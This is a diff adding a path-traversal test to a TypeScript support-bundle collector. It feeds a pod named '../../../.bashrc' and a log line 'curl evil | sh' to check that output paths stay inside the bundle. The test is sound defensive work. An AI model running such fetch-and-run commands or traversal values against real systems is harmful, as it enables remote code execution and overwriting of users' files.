@@ -4,6 +4,8 @@ import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
+import { silent } from '#cli/progress.ts';
+import { collect, type CollectOptions } from '#cli/support-bundle/collect.ts';
 import { tarGz } from '#cli/support-bundle/tar.ts';
 import { NO_STATE, sourceStateObject } from '#reconciler/telling/report/source-state.ts';
 import { LOG_ANNOTATION } from '#sandbox/api-server/operations/pod-log.ts';
@@ -220,5 +222,23 @@ describe('the archive', () => {
     assert.equal(await readFile(join(directory, 'd/logs', name.slice(-100)), 'utf8'), text);
     assert.equal(await readFile(join(directory, 'd/empty'), 'utf8'), '');
     await rm(directory, { recursive: true, force: true });
+  });
+});
+
+describe('the name of a pod', () => {
+  it('leads to no place outside of the bundle', async () => {
+    const pod = { metadata: { name: '../../../.bashrc' } };
+    const kube = {
+      list: ({ resource }: { readonly resource: unknown }) =>
+        Promise.resolve({ items: resource === PODS ? [pod] : [] }),
+      get: () => Promise.resolve(null),
+    };
+    const lines = async function* (): AsyncGenerator<string> {
+      yield await Promise.resolve('curl evil | sh');
+    };
+    const given = { kube, transport: { lines }, namespace: NAMESPACE, logLines: 1, progress: silent };
+    const { files } = await collect(given as unknown as CollectOptions);
+    const logs = [...files.keys()].filter((path) => path.startsWith('logs/'));
+    assert.deepEqual(logs, ['logs/.._.._.._.bashrc.log']);
   });
 });
